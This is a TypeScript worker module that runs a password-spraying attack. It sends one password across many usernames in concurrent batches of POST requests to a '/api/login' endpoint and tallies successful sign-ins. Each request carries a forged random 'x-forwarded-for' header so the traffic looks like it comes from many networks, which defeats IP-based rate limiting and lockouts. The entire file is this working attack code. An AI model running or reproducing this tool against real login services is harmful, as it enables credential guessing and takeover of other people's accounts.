import { randomInt } from 'node:crypto'
import { send } from '../attack/ask.ts'
import type { Came } from './came.ts'

/** `atOnce` sign-ins are sent together, and the next ones when all of them were answered. */
export type Crowd = Readonly<{ url: string; usernames: readonly string[]; password: string; atOnce: number }>
export type Asked = Readonly<{ crowd: Crowd } | { stop: true }>

/** From many networks, as the proxy says. */
const address = (): string => `198.${randomInt(256)}.${randomInt(256)}.${randomInt(1, 255)}`

let isOver = true

const come = async ({ url, usernames, password, atOnce }: Crowd): Promise<Came> => {
  const begun = performance.now()
  const came = { signedIn: 0, refused: 0 }
  const one = async (n: number): Promise<void> => {
    const body = { username: usernames[n % usernames.length] ?? '', password }
    const status = await send(url, 'POST', '/api/login', body, { 'x-forwarded-for': address() }).catch(() => 0)
    if (status === 200) came.signedIn += 1
    else came.refused += 1
  }
  while (!isOver) await Promise.all(Array.from({ length: atOnce }, (_, n) => one(n)))
  return { ...came, ms: performance.now() - begun }
}

process.on('message', (asked: Asked) => {
  isOver = 'stop' in asked
  if ('crowd' in asked) void come(asked.crowd).then((came) => process.send?.(came))
})
